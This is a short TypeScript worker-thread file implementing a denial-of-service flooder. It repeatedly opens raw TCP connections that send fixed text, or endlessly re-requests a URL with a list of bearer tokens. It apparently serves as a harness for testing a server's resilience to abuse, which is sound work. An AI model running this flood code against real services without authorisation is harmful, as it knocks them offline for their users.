import { connect } from "node:net"
import { parentPort, workerData } from "node:worker_threads"

/** The requests of an attacker. Each connection repeats them until the attack ends. */
export type Attack =
  & {
    readonly url: string
  }
  & ({
    /** Each of these tokens requests the path again as soon as it has the previous response. */
    readonly path: string
    readonly tokens: ReadonlyArray<string>
  } | {
    /** Each connection is opened, sends this text and waits until it is closed. */
    readonly text: string
    readonly connections: number
  })

const pauseMs = 20

const flood = (url: string, text: string): void => {
  const { hostname, port } = new URL(url)
  const socket = connect(Number(port), hostname, () => void socket.write(text))
  socket.on("error", () => {}).on("close", () => setTimeout(() => flood(url, text), pauseMs)).resume()
}

const request = (url: string, token: string): void =>
  void fetch(url, { headers: { authorization: `Bearer ${token}` } })
    .then((response) => response.arrayBuffer())
    .then(() => request(url, token))

const run = (attack: Attack): void => {
  if ("text" in attack) Array.from({ length: attack.connections }, () => flood(attack.url, attack.text))
  else for (const token of attack.tokens) request(`${attack.url}${attack.path}`, token)
}

// A worker thread runs this file.
if (parentPort !== null) {
  run(workerData as Attack)
  parentPort.postMessage("begun", [])
}
